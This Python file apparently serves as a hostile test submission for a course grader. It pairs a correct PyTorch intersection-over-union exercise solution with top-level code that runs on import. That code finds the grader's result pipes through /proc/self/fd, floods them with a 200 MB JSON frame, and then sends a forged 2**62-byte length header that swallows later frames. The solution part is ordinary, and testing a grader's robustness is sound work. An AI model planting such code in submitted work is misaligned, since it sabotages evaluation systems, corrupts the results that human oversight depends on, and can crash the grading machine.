# hostile_i: a huge frame: one valid 200 MB JSON object (a result pipe accepts up to 256 MB,
# which the grader's own process holds several copies of), then a length header of 2**62
# bytes that swallows every later frame. Then the correct function.

import os
import struct


def _result_fds():
    """Pipes this process holds open for writing, beyond stdout and stderr (the result channel)."""
    fds, shown = [], set()
    for std in (1, 2):
        try:
            shown.add(os.readlink(f"/proc/self/fd/{std}"))     # the captured output: not it
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
            if not link.startswith("pipe:") or link in shown:
                continue
            with open(f"/proc/self/fdinfo/{fd}") as f:
                flags = int(next(l for l in f if l.startswith("flags:")).split()[1], 8)
        except (OSError, StopIteration, ValueError):
            continue
        if flags & 3 == os.O_WRONLY:
            fds.append(fd)
    return fds


def _write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view[:1 << 20]):]


def _frame(kind, payload, size=None):
    """One frame of the runner's wire format: kind, 8-byte big-endian length, payload."""
    return kind + struct.pack(">Q", len(payload) if size is None else size) + payload


def _send_everywhere(*chunks):
    sent = 0
    for fd in _result_fds():
        try:
            for chunk in chunks:
                _write_all(fd, chunk)
            sent += 1
        except OSError:
            pass
    print(f"frames: written to {sent} pipes")


_payload = b'{"type": "hello", "n_arrays": 0, "pad": "' + b"x" * (200 << 20) + b'"}'
_send_everywhere(_frame(b"J", _payload), _frame(b"J", b"{", size=1 << 62))
del _payload


# --- the reference solution, unchanged ---
"""Exercise 3 (lesson 04): intersection over union of every pair of boxes."""
import torch


def _check_boxes(boxes: torch.Tensor, name: str) -> None:
    if not isinstance(boxes, torch.Tensor) or boxes.dim() != 2 or boxes.shape[-1] != 4:
        shape = tuple(boxes.shape) if isinstance(boxes, torch.Tensor) else type(boxes).__name__
        raise ValueError(f"expected {name} as a Tensor[N, 4] of xyxy boxes, got {shape}")


def jaccard(box_a: torch.Tensor, box_b: torch.Tensor) -> torch.Tensor:
    """Intersection over union (Jaccard index) of every box in `box_a` with every box in `box_b`.

    Args:
        box_a (Tensor[N, 4]): boxes in ``xyxy`` format (x_min, y_min, x_max, y_max).
        box_b (Tensor[M, 4]): boxes in ``xyxy`` format, in the same units as ``box_a``.

    Returns:
        Tensor[N, M]: entry ``[i, j]`` is IoU(box_a[i], box_b[j]), in [0, 1], with
        the inputs' dtype and device. Boxes that only touch have IoU 0; where the
        union is 0 (two empty boxes) the IoU is 0, never NaN. N = 0 or M = 0
        give an empty ``[N, M]`` tensor.
    """
    _check_boxes(box_a, "box_a")
    _check_boxes(box_b, "box_b")
    # the course's dtype policy: half precision and integers are computed in float32
    box_a, box_b = (b if b.dtype in (torch.float32, torch.float64) else b.float() for b in (box_a, box_b))
    # ==== BEGIN EXERCISE (about 8 lines) ====
    # HINT: take the four coordinates apart: box_a's as four [N, 1] columns, box_b's as four [M]
    # HINT: rows; then any arithmetic between the two broadcasts to [N, M], every pair at once
    # HINT: overlap width = min of the right edges - max of the left edges, at least 0; same for height
    # HINT: union = area_a + area_b - inter; guard the 0/0 of two empty boxes
    # A transposed copy puts each coordinate's values next to each other in memory:
    # the [N, M] arithmetic below then reads neighbours, which vector units do fastest.
    ax1, ay1, ax2, ay2 = box_a.T.contiguous().unsqueeze(2)    # each [N, 1]
    bx1, by1, bx2, by2 = box_b.T.contiguous()                 # each [M]
    inter_w = (torch.min(ax2, bx2) - torch.max(ax1, bx1)).clamp(min=0)   # [N, M]; 0 when disjoint
    inter_h = (torch.min(ay2, by2) - torch.max(ay1, by1)).clamp(min=0)   # [N, M]
    inter = inter_w * inter_h
    union = (ax2 - ax1) * (ay2 - ay1) + (bx2 - bx1) * (by2 - by1) - inter   # [N, 1] + [M] - [N, M]
    # Two empty boxes have union 0 and intersection 0: dividing by a tiny
    # positive number gives 0 instead of NaN, and keeps gradients finite.
    return inter / union.clamp(min=torch.finfo(union.dtype).tiny)
    # ==== END EXERCISE ====
